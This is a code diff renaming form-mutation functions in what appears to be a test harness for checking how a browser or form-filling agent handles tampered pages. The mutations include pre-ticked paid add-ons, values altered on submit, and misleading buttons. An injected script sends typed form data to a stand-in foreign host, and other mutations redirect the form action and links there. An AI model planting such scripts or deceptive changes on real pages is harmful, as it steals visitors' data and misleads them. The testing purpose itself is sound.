@@ -2,7 +2,7 @@ import type { PageMutation } from './workshop.ts';
 
 // Each of these is handed to a browser as its own text: nothing from outside its body is there then.
 
-export const labelElsewhere: PageMutation = ({ texts, labelOf, below, page }) => {
+export const labelDetached: PageMutation = ({ texts, labelOf, below, page }) => {
   const labelled = texts.filter((field) => labelOf(field));
   for (const field of labelled) {
     const label = labelOf(field);
@@ -34,7 +34,7 @@ export const labelSpacing: PageMutation = ({ page, any }) => {
   return labels.length > 0 ? {} : undefined;
 };
 
-export const labelDressed: PageMutation = ({ fields, labelOf, any }) => {
+export const labelDecorated: PageMutation = ({ fields, labelOf, any }) => {
   let dressed = 0;
   for (const field of fields) {
     const words = labelOf(field)?.firstChild;
@@ -56,7 +56,7 @@ export const labelsSwapped: PageMutation = ({ fields, labelOf, any }) => {
 };
 
 /** Another question in the place of ours, answered by the same field. */
-export const labelTurned: PageMutation = ({ texts, labelOf, any }) => {
+export const labelForOtherThing: PageMutation = ({ texts, labelOf, any }) => {
   const words = any(texts.map((field) => labelOf(field)?.firstChild).filter((label) => label));
   if (!words) return undefined;
   words.textContent = `${any(['Previous', 'Former', 'Second', "Spouse's", 'Trailer:'])} ${words.textContent?.toLowerCase()}`;
@@ -79,7 +79,7 @@ export const hintMoved: PageMutation = ({ page, any, form }) => {
 };
 
 /** The language that the page says it is in is another one. */
-export const languageDenied: PageMutation = ({ page, any }) => {
+export const wrongPageLanguage: PageMutation = ({ page, any }) => {
   page.documentElement.lang = any(['', 'fr', 'de', 'en-US', 'it']) ?? '';
   return {};
 };
@@ -127,7 +127,7 @@ export const fieldsReordered: PageMutation = ({ form, fields, groupOf, below }) 
   return {};
 };
 
-export const buttonsReordered: PageMutation = ({ form }) => {
+export const submitButtonFirst: PageMutation = ({ form }) => {
   const button = form?.querySelector('button[type=submit]');
   if (!form || !button) return undefined;
   form.insertAdjacentHTML(
@@ -152,10 +152,10 @@ export const fieldsWrapped: PageMutation = ({ fields, groupOf, below, page, any 
 
 export const fieldsInGroup: PageMutation = ({ group, any }) => group(any(['Your details', 'Part 2', 'Details']));
 
-export const fieldsOfAnother: PageMutation = ({ group, any }) =>
+export const fieldsInForeignGroup: PageMutation = ({ group, any }) =>
   group(any(['Second driver', 'Previous keeper', 'Trailer']));
 
-export const inTable: PageMutation = ({ texts, labelOf, groupOf, page }) => {
+export const fieldsInTable: PageMutation = ({ texts, labelOf, groupOf, page }) => {
   for (const field of texts) {
     const label = labelOf(field);
     const row = page.createElement('tr');
@@ -241,7 +241,7 @@ export const buttonAsInput: PageMutation = ({ form, page }) => {
   return {};
 };
 
-export const dayOrder: PageMutation = ({ page, labelOf, day, pick }) => {
+export const dateOrderChanged: PageMutation = ({ page, labelOf, day, pick }) => {
   const field = day && page.querySelector<HTMLInputElement>(`input[name="${day.name}"]`);
   if (!field) return undefined;
   const order = pick(['YMD', 'MDY'] as const);
@@ -256,14 +256,14 @@ export const dayOrder: PageMutation = ({ page, labelOf, day, pick }) => {
   return { day: { name: field.name, order } };
 };
 
-export const dayNative: PageMutation = ({ page, day }) => {
+export const nativeDateInput: PageMutation = ({ page, day }) => {
   const field = day && page.querySelector<HTMLInputElement>(`input[name="${day.name}"]`);
   if (!field) return undefined;
   field.type = 'date';
   return { day: { name: field.name, order: 'YMD' } };
 };
 
-export const tooShort: PageMutation = ({ texts, any, below }) => {
+export const fieldTooShort: PageMutation = ({ texts, any, below }) => {
   const field = any(texts);
   if (!field) return undefined;
   field.maxLength = 2 + below(3);
@@ -284,7 +284,7 @@ export const caseChangedAsTyped: PageMutation = ({ texts, any, page }) => {
   return {};
 };
 
-export const cutAsTyped: PageMutation = ({ texts, any, page }) => {
+export const valueAlteredAsTyped: PageMutation = ({ texts, any, page }) => {
   const field = any(texts);
   if (!field) return undefined;
   const way = any(["value.replace(/[^\\w@.]/g, '')", 'value.slice(0, -1)', "value.replace(/\\d/, '0')"]);
@@ -299,7 +299,7 @@ export const cutAsTyped: PageMutation = ({ texts, any, page }) => {
 };
 
 /** After the visitor has looked a last time. */
-export const rewrittenAsSent: PageMutation = ({ form, texts, any, page }) => {
+export const valueAlteredOnSubmit: PageMutation = ({ form, texts, any, page }) => {
   const field = any(texts);
   if (!form || !field) return undefined;
   const way = any(['value.slice(0, -2)', "'X' + value", 'value.split("").reverse().join("")']);
@@ -315,7 +315,7 @@ export const rewrittenAsSent: PageMutation = ({ form, texts, any, page }) => {
   return {};
 };
 
-export const extraOptional: PageMutation = ({ form, insert, any }) => {
+export const extraOptionalField: PageMutation = ({ form, insert, any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -328,7 +328,7 @@ export const extraOptional: PageMutation = ({ form, insert, any }) => {
   return {};
 };
 
-export const extraRequired: PageMutation = ({ form, insert, any }) => {
+export const extraRequiredField: PageMutation = ({ form, insert, any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -342,7 +342,7 @@ export const extraRequired: PageMutation = ({ form, insert, any }) => {
   return {};
 };
 
-export const prefilledExtra: PageMutation = ({ form, insert, any }) => {
+export const prefilledExtraField: PageMutation = ({ form, insert, any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -355,14 +355,14 @@ export const prefilledExtra: PageMutation = ({ form, insert, any }) => {
 };
 
 /** What another visitor left in a field of ours. */
-export const prefilledOwn: PageMutation = ({ texts, any }) => {
+export const prefilledOwnField: PageMutation = ({ texts, any }) => {
   const field = any(texts);
   if (!field) return undefined;
   field.setAttribute('value', any(['Martin', 'W 1234 X', '01/01/2001', '1']) ?? '');
   return {};
 };
 
-export const preselectedOwn: PageMutation = ({ form, any }) => {
+export const preselectedOwnOption: PageMutation = ({ form, any }) => {
   const list = any(form?.querySelectorAll('select') ?? []);
   const radio = any(form?.querySelectorAll<HTMLInputElement>('[type=radio]') ?? []);
   if (list) any([...list.options].filter(({ value }) => value))?.setAttribute('selected', '');
@@ -370,7 +370,7 @@ export const preselectedOwn: PageMutation = ({ form, any }) => {
   return list || radio ? {} : undefined;
 };
 
-export const preticked: PageMutation = ({ form, insert, any }) => {
+export const checkedExtraBox: PageMutation = ({ form, insert, any }) => {
   if (!form) return undefined;
   const words = any(['Send me offers of our partners', 'Add insurance for EUR 9.90', 'Renew it every year', '']);
   insert(`<p><input type="checkbox" id="m1" name="mutant-tick" checked><label for="m1">${words}</label></p>`);
@@ -378,7 +378,7 @@ export const preticked: PageMutation = ({ form, insert, any }) => {
 };
 
 /** A press on it would take the tick away. */
-export const pretickedOwn: PageMutation = ({ form }) => {
+export const checkedOwnBoxes: PageMutation = ({ form }) => {
   const ticks = form?.querySelectorAll('[type=checkbox]') ?? [];
   for (const tick of ticks) tick.setAttribute('checked', '');
   return ticks.length > 0 ? {} : undefined;
@@ -435,7 +435,7 @@ export const otherForm: PageMutation = ({ form, texts, labelOf, any }) => {
 };
 
 /** Called like ours, and it leads elsewhere. */
-export const otherButton: PageMutation = ({ form, any }) => {
+export const misleadingButton: PageMutation = ({ form, any }) => {
   const button = form?.querySelector('button[type=submit]');
   if (!button) return undefined;
   const way = any(['formaction="mutant-form"', 'name="mutant-act" value="cancel"', 'type="button"']);
@@ -467,7 +467,7 @@ export const amountChanged: PageMutation = ({ page, pick }) => {
   return changed > 0 ? {} : undefined;
 };
 
-export const amountAdded: PageMutation = ({ page, form, any }) => {
+export const secondAmount: PageMutation = ({ page, form, any }) => {
   if (!form || !/(€|EUR)\s*\d|\d[.,]\d\d\s*(€|EUR)/.test(page.body.textContent ?? '')) return undefined;
   form.insertAdjacentHTML(
     'beforebegin',
@@ -477,7 +477,7 @@ export const amountAdded: PageMutation = ({ page, form, any }) => {
 };
 
 /** What was entered, shown back with its end cut off. */
-export const shownCut: PageMutation = ({ page, shown, any, below }) => {
+export const summaryValueCut: PageMutation = ({ page, shown, any, below }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const line = any(lines);
   if (!line) return undefined;
@@ -486,7 +486,7 @@ export const shownCut: PageMutation = ({ page, shown, any, below }) => {
 };
 
 /** Somebody else's answer in the place of ours. */
-export const shownOther: PageMutation = ({ page, shown, any }) => {
+export const summaryValueForeign: PageMutation = ({ page, shown, any }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const line = any(lines);
   if (!line) return undefined;
@@ -495,7 +495,7 @@ export const shownOther: PageMutation = ({ page, shown, any }) => {
 };
 
 /** Two answers of ours that have changed places. */
-export const shownSwapped: PageMutation = ({ page, shown, any }) => {
+export const summaryValuesSwapped: PageMutation = ({ page, shown, any }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const one = any(lines);
   const other = any(lines.filter(({ textContent }) => textContent !== one?.textContent));
@@ -504,13 +504,13 @@ export const shownSwapped: PageMutation = ({ page, shown, any }) => {
   return {};
 };
 
-export const shownNot: PageMutation = ({ page, shown }) => {
+export const summaryValuesMissing: PageMutation = ({ page, shown }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   for (const line of lines) line.parentElement?.remove();
   return lines.length > 0 ? {} : undefined;
 };
 
-export const veil: PageMutation = ({ page, any }) => {
+export const blockingOverlay: PageMutation = ({ page, any }) => {
   const button = any(['Close', 'No thanks', 'Stay on this page', 'Continue', '×']);
   page.body.insertAdjacentHTML(
     'beforeend',
@@ -519,7 +519,7 @@ export const veil: PageMutation = ({ page, any }) => {
   return {};
 };
 
-export const dialogs: PageMutation = ({ page, any }) => {
+export const browserDialogs: PageMutation = ({ page, any }) => {
   const script = page.createElement('script');
   script.textContent =
     any([
@@ -532,13 +532,13 @@ export const dialogs: PageMutation = ({ page, any }) => {
   return {};
 };
 
-export const formElsewhere: PageMutation = ({ form, elsewhere }) => {
+export const formToForeignHost: PageMutation = ({ form, elsewhere }) => {
   form?.setAttribute('action', `${elsewhere}/form`);
   return form ? {} : undefined;
 };
 
 /** A script that tells another host what is typed. */
-export const listener: PageMutation = ({ page, form, elsewhere, any }) => {
+export const exfiltrationScript: PageMutation = ({ page, form, elsewhere, any }) => {
   if (!form) return undefined;
   const way = any([
     'new Image().src = there + "?" + body',
@@ -558,14 +558,14 @@ export const listener: PageMutation = ({ page, form, elsewhere, any }) => {
 };
 
 /** Every way on leads to another host. */
-export const linksElsewhere: PageMutation = ({ page, elsewhere }) => {
+export const linksToForeignHost: PageMutation = ({ page, elsewhere }) => {
   const links = page.querySelectorAll('main a[href]');
   for (const link of links) link.setAttribute('href', `${elsewhere}/link`);
   return links.length > 0 ? {} : undefined;
 };
 
 /** Words of a no where a portal does not say one. */
-export const noBeside: PageMutation = ({ page, any }) => {
+export const unrelatedRefusal: PageMutation = ({ page, any }) => {
   const words = any([
     'What if the payment was declined?',
     'This field is required.',
